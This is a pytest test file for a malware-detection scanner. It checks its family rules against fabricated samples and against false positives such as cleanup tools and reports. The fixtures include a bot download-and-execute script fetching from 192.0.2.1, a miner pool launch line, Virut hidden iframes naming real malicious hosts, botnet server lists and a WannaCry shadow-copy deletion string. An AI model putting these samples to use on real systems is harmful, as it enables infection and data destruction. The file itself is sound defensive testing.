"""What else has the words of a family: tools, rules, lists, owners; and how else its entries may be spelled."""

import re
import struct
from collections.abc import Mapping
from pathlib import Path

import pytest

from quetsach.core.pack import Action, ArtefactKind, Pack
from quetsach.endpoint.artefact import Artefact, FileAnchor, LineAnchor, ProcessAnchor, RegistryAnchor
from quetsach.endpoint.engine.boreal import BorealEngine
from quetsach.endpoint.scanner.kind import HEAD_BYTES, kind_of
from quetsach.endpoint.scanner.match import Observation, TraitMatcher
from quetsach.endpoint.scanner.recognise import Recogniser, signatures_of
from quetsach.packs.load import load_shelf
from quetsach.packs.specimen import load_specimen
from quetsach.packs.specimen.program import build_elf, build_pe

SHELF = Path(__file__).parents[3] / "packs"
PACKS: Mapping[str, Pack] = {pack.family: pack for pack in load_shelf(SHELF)}
RULES = BorealEngine().compile({family: pack.rules for family, pack in PACKS.items() if pack.rules})
LITERAL = re.compile(r'^\s*\$\w+ = "((?:[^"\\]|\\.)*)"', re.MULTILINE)
FAMILIES = sorted(family for family, pack in PACKS.items() if LITERAL.search(pack.rules))
SALITY, ZEROACCESS, NECURS = (load_specimen(SHELF / family) for family in ("sality", "zeroaccess", "necurs"))
SALITY_BODY = build_pe(sections={".data": SALITY.BODY})


def _rules(content: bytes) -> list[str]:
    return sorted(hit.rule for hit in RULES.match(content))


def _words(family: str) -> list[str]:
    return [found.replace("\\\\", "\\").replace('\\"', '"') for found in LITERAL.findall(PACKS[family].rules)]


def _signed(program: bytes) -> bytes:
    """Return a program with a table of signatures behind its end."""
    signed = bytearray(program)
    header = struct.unpack_from("<I", signed, 0x3C)[0]
    wide = struct.unpack_from("<H", signed, header + 0x18)[0] == 0x20B
    struct.pack_into("<II", signed, header + (0xA8 if wide else 0x98), len(program), 8)
    return bytes(signed) + struct.pack("<IHH", 8, 0x200, 2)


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize(
    "form",
    [
        pytest.param('alert tcp any any -> any any (content:"{}"; sid:{};)', id="rules of Snort"),
        pytest.param('        $s{1} = "{0}" ascii wide', id="rules of YARA"),
        pytest.param("| {} | word {} |", id="a table in a report"),
    ],
)
def test_a_text_that_has_all_words_of_a_family_is_left_alone(family: str, form: str) -> None:
    lines = (form.format(word, number) for number, word in enumerate(_words(family)))
    assert _rules("\n".join(lines).encode()) == []


@pytest.mark.parametrize(
    ("program", "rule"),
    [
        (SALITY_BODY, "sality_body"),
        (NECURS.program(), "necurs_program"),
        (ZEROACCESS.module(), "zeroaccess_module"),
        (build_pe(bits=64, sections={".r": b"%08x.@\0x64\\release\\INBR64\0"}), "zeroaccess_module"),
    ],
)
def test_a_tool_that_removes_a_family_and_is_signed_is_not_taken_for_it(program: bytes, rule: str) -> None:
    assert _rules(program) == [rule]
    assert _rules(_signed(program)) == []


def test_a_tool_that_knows_every_version_of_wannamine_is_not_taken_for_one() -> None:
    words = b"\0".join(word.encode() for word in _words("xmrig-miner") if not word.startswith(("stratum", "daemon")))
    assert _rules(build_pe(sections={".rdata": words})) == []


FRAME = b'<iframe src="http://ZieF.pl/rc/" width=1 height=1 style="border:0"></iframe>'


@pytest.mark.parametrize("mark", [b"'", b'"', b"`"])
def test_a_program_that_quotes_the_frame_of_virut_is_no_infected_page(mark: bytes) -> None:
    quoting = b"frame = " + mark + FRAME + mark + b"\n"
    assert _rules(quoting) == []
    assert _rules(b"<html><body>" + FRAME + b"</body></html>") == ["virut_frame_in_page"]
    assert _rules(FRAME) == ["virut_frame_in_page"]
    assert _rules(quoting + b"<body>" + FRAME) == ["virut_frame_in_page"]
    assert _rules(b"<?php echo " + mark + FRAME + b"\n</body>" + mark) == ["virut_frame_in_page"]  # put into a string


@pytest.mark.parametrize("host", [b"www&#46;Brenz.pl", b"www.brenz.pl", b"jL&#46;chura.pl", b"NtKrnlpa.cn"])
def test_the_frame_of_virut_is_known_with_letters_in_another_spelling(host: bytes) -> None:
    frame = b'<iframe style="height:1px" src="http://' + host + b'/rc/" frameborder=0 width=1></iframe>'
    assert _rules(b"<body>" + frame + b"</body>") == ["virut_frame_in_page"]
    assert _rules(b"<body>" + frame.replace(b"/rc/", b"/video/") + b"</body>") == []


def test_a_list_of_servers_to_block_is_not_taken_for_what_calls_them() -> None:
    servers = b"dqglobex.com\0verywellhere.cn\0iamnothere.cn\0proxim.ircgalaxy.pl\0ircd.zief.pl\0trafficconverter.biz\0"
    hits = RULES.match(build_pe(sections={".rsrc": servers}))
    acting = {t.rule for pack in PACKS.values() for t in pack.traits if t.action is not Action.REPORT}
    assert {hit.rule for hit in hits} == {"lethic_servers"}
    assert not {hit.rule for hit in hits} & acting


CLEANER = b"""#!/bin/bash
# removes miners
ps aux | grep -E 'stratum+tcp://|--donate-level' | awk '{print $2}' | xargs kill -9
pkill -f "stratum+tcp://"
pkill -f -- --donate-level
chattr -i /etc/ld.so.preload; sed -i /libhide/d /etc/ld.so.preload
crontab -l | grep -v 192.0.2.10 | crontab -
sed -i /mdrfckr/d /root/.ssh/authorized_keys
rm -f /etc/systemd/system/miner.service
"""


def test_a_script_that_removes_miners_is_not_taken_for_one_that_brings_them() -> None:
    assert _rules(CLEANER) == []
    assert _rules(CLEANER + b"./k -o stratum+tcp://192.0.2.10:3333\n") == ["miner_dropper_script"]
    assert _rules(CLEANER + b'POOL="stratum+ssl://$HOST"\n') == ["miner_dropper_script"]
    assert _rules(CLEANER + b"./k --donate-level 1\n") == ["miner_dropper_script"]


def test_a_download_script_needs_no_first_line_that_names_a_shell() -> None:
    line = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/x.{0}; chmod +x x.{0}"
    lines = "\n".join(line.format(kind) for kind in ("mips", "mpsl", "arm7", "x86"))
    assert _rules(lines.encode()) == ["bot_download_script"]
    assert _rules(b"What the honeypot saw:\n" + lines.encode()) == []


def test_a_download_script_may_go_through_the_processors_in_a_loop() -> None:
    script = (
        "#!/bin/bash\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
        "for a in arm arm5 m68k mpsl sh4 x86_64 mips; do wget http://192.0.2.1/main_$a; chmod +x *; ./main_$a; done\n"
    )
    assert _rules(script.encode()) == ["bot_download_script"]
    assert _rules(script.replace("cd /var/run || ", "").encode()) == []


MINER_WORDS = (
    b"stratum+tcp://\0donate-level\0donate-over-proxy\0randomx-1gb-pages\0cpu-max-threads-hint\0rig-id\0nicehash\0"
)
CONFIGURATION = b'{"pools": [], "donate-level": 0, "randomx": {}, "rig-id": null}'
KEY = Observation(
    Artefact(
        ArtefactKind.AUTHORIZED_KEY,
        LineAnchor(FileAnchor(b"/k", 1, 1, 1, 1, 1, sha256=""), 1, b"k"),
        {"comment": "mdrfckr"},
    )
)


def _file(path: str, content: bytes) -> Observation:
    anchor = FileAnchor(path.encode(), 1, 1, 1, 1, 1, sha256="")
    fields = {"path": path, "name": path.rpartition("/")[2]}
    return Observation(Artefact(ArtefactKind.FILE, anchor, fields), tuple(RULES.match(content)))


def _actions(family: str, *seen: Observation) -> dict[str, Action]:
    platform = "windows" if PACKS[family].platforms == {"windows"} else "linux"
    found = TraitMatcher([PACKS[family]], BorealEngine(), platform=platform).find(seen)
    return {finding.trait: finding.action for finding in found}


@pytest.mark.parametrize(
    ("path", "is_windows", "trait"),
    [
        ("/home/lan/xmrig/build/xmrig", False, "miner-of-someone"),
        ("/opt/XMRig-6.22.2/xmrig-notls", False, "miner-of-someone"),
        ("/usr/local/bin/xmrig", False, "miner-of-someone"),
        ("/usr/local/bin/kworkerds", False, "miner-program"),
        ("/usr/local/bin/xmr", False, "miner-program"),
        ("/home/lan/.cache/xmrig", False, "miner-program"),
        ("/opt/.xmrig", False, "miner-program"),
        ("/tmp/xmrig", False, "miner-program"),
        ("/var/tmp/a/xmrig", False, "miner-program"),
        ("/etc/xmrig", False, "miner-program"),
        ("/Users/An/Downloads/xmrig-6.22.2/xmrig.exe", True, "miner-of-someone-windows"),
        ("/Program Files/XMRig/XMRIG.EXE", True, "miner-of-someone-windows"),
        ("/Users/An/AppData/Local/Programs/Miner/xmrig.exe", True, "miner-of-someone-windows"),
        ("/Users/An/AppData/Roaming/sys/xmrig.exe", True, "miner-program-windows"),
        ("/Documents and Settings/An/Local Settings/Temp/xmrig.exe", True, "miner-program-windows"),
        ("/Users/An/Downloads/setup.exe", True, "miner-program-windows"),
        ("/ProgramData/xmrig/xmrig.exe", True, "miner-program-windows"),
    ],
)
def test_a_miner_under_its_own_name_in_a_plain_folder_is_only_reported(path: str, is_windows: bool, trait: str) -> None:
    content = build_pe(sections={".rdata": MINER_WORDS}) if is_windows else build_elf(MINER_WORDS)
    action = Action.REPORT if "of-someone" in trait else Action.QUARANTINE
    assert _actions("xmrig-miner", _file(path, content)) == {trait: action}


@pytest.mark.parametrize(
    ("executable", "deleted", "trait"),
    [
        ("/opt/xmrig/xmrig", "no", None),
        ("/opt/xmrig/xmrig", "yes", "miner-process-without-file"),
        ("/tmp/xmrig", "no", "miner-process"),
        ("/usr/bin/kworkerds", "no", "miner-process"),
    ],
)
def test_a_miner_that_its_owner_runs_goes_on_running(executable: str, deleted: str, trait: str | None) -> None:
    anchor = ProcessAnchor(1, 1, executable.encode(), deleted=deleted == "yes")
    fields = {"executable": executable, "deleted": deleted}
    seen = Observation(Artefact(ArtefactKind.PROCESS, anchor, fields), tuple(RULES.match(build_elf(MINER_WORDS))))
    assert set(_actions("xmrig-miner", seen)) == {trait} - {None}


def test_what_starts_the_owners_miner_and_its_settings_stay_unless_an_attacker_was_there() -> None:
    miner = _file("/opt/xmrig/xmrig", build_elf(MINER_WORDS))
    settings = _file("/opt/xmrig/config.json", CONFIGURATION)
    unit = FileAnchor(b"/etc/systemd/system/xmrig.service", 1, 1, 1, 1, 1, sha256="")
    starts = Observation(Artefact(ArtefactKind.SYSTEMD_UNIT, unit, {}, (b"/opt/xmrig/xmrig",)))
    assert _actions("xmrig-miner", miner, settings, starts) == {
        "miner-of-someone": Action.REPORT,
        "configuration-of-someone": Action.REPORT,
    }
    assert _actions("xmrig-miner", miner, settings, starts, KEY) == {
        "miner-in-company": Action.QUARANTINE,
        "miner-configuration": Action.QUARANTINE,
        "systemd-service": Action.REMOVE_UNIT,
        "ssh-key": Action.REMOVE_LINE,
    }


BIN = r"RECYCLER\S-5-3-42-2819952290-8240758988\jwgkvsq.vmx"
DIGITS = r"\4950606094303050\winsvcs.exe"
OF_VIRUT = ":*:enabled:@shell32.dll,-1"
WORDS = b"getmyip.org\0checkip.dyndns.org\0/search?q=%d\0netsvcs\0ServiceDll\0"
WORM = _file("/x.dll", build_pe(dll=True, sections={".data": WORDS}))
ENTRY = {"place": "run-policies", "name": "41"}


@pytest.mark.parametrize(
    ("family", "trait", "fields"),
    [
        ("andromeda", "start-known", {**ENTRY, "data": r"%ALLUSERSPROFILE%\msvkz.exe"}),
        ("andromeda", "start-known", {**ENTRY, "data": r'"%programdata%\msvkz.scr" '}),
        ("andromeda", "start-known", {**ENTRY, "data": r"C:\DOCUME~2\ALLUSE~2\msvkz.exe"}),
        ("conficker", "autorun", {"place": "autorun-inf", "command": rf'rundll32.exe ".\{BIN}",ahaezedrn'}),
        ("conficker", "autorun", {"place": "autorun-inf", "command": rf"%windir%\System32\RUNDLL32 {BIN}, ahaezedrn"}),
        ("conficker", "remembered-command", {"place": "mount-points", "data": rf'rundll32 "E:\{BIN}",ahaezedrn'}),
        ("conficker", "run-known", {"place": "run", "data": r'"C:\Windows\RUNDLL32.EXE" "%TEMP%\kgbwnr.dll",ydmmg'}),
        ("phorpiex", "start-known", {"place": "run", "data": rf"%windir%{DIGITS}"}),
        ("phorpiex", "start-known", {"place": "run", "data": rf'"D:\Windows{DIGITS}" -s'}),
        ("phorpiex", "firewall-hole-known", {"place": "firewall-programs", "data": rf"%windir%{DIGITS}:*:Enabled:x"}),
        ("phorpiex", "autorun", {"place": "autorun-inf", "command": r'"\__\DriveMgr.exe" -s'}),
        ("virut", "firewall-hole", {"place": "firewall-programs", "data": rf"%windir%\a.exe{OF_VIRUT}"}),
    ],
)
def test_entries_in_another_spelling_are_known(family: str, trait: str, fields: dict[str, str]) -> None:
    line = LineAnchor(FileAnchor(b"/autorun.inf", 1, 1, 1, 1, 1, sha256=""), 1, b"x")
    is_line = fields["place"] == "autorun-inf"
    kind = ArtefactKind.SETTING_LINE if is_line else ArtefactKind.REGISTRY_VALUE
    seen = Observation(Artefact(kind, line if is_line else RegistryAnchor(r"HKLM\X", "x"), fields))
    company = [WORM] if trait == "run-known" else []
    assert trait in _actions(family, seen, *company)


DECRYPTOR = build_pe(sections={".d": b"Wana Decrypt0r 2.0\0wmic shadowcopy delete\0@WanaDecryptor@.exe\0c.wnry\0"})


@pytest.mark.parametrize(
    "folder", ["Documents and Settings/An/Desktop", "Documents and Settings/All Users/Application Data/xwjfzbtm432"]
)
def test_the_window_of_wannacry_goes_from_the_folders_of_older_windows(folder: str) -> None:
    assert _actions("wannacry", _file(f"/{folder}/@WanaDecryptor@.exe", DECRYPTOR)) == {"decryptor": Action.QUARANTINE}


def test_nothing_of_this_project_is_taken_for_what_it_looks_for() -> None:
    """Rules travel in opaque containers, and what is written about malware does not quote it word for word."""
    recogniser = Recogniser(BorealEngine(), signatures_of(PACKS.values()))
    taken = [
        (path.relative_to(SHELF.parent), hit.rule)
        for folder in ("bench", "data", "docs", "packs", "src", "tests")
        for path in (SHELF.parent / folder).rglob("*")
        if path.is_file() and "__pycache__" not in path.parts
        for content in [path.read_bytes()]
        for hit in recogniser.recognise(content, kind_of(content[:HEAD_BYTES]))
    ]
    assert taken == []
